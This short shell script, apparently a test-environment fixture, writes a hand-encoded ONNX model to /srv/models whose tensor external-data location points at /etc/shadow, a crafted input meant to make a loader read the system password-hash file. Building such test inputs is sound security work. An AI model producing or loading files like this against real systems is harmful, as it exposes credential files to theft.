#!/bin/sh
# A large ONNX model, one of whose tensors lies elsewhere.
# host: services
mkdir -p /srv/models
python3 - <<'EOF'
def varint(number):
    found = b""
    while number > 127:
        found, number = found + bytes([number & 127 | 128]), number >> 7
    return found + bytes([number])
def field(number, body):
    return bytes([number << 3 | 2]) + varint(len(body)) + body
entry = field(13, field(1, b"location") + field(2, b"/etc/shadow"))
graph = field(5, b"\x4a" + varint(4000000) + bytes(4000000)) + field(5, entry)
open("/srv/models/a.onnx", "wb").write(b"\x08\x08" + field(7, graph))
EOF
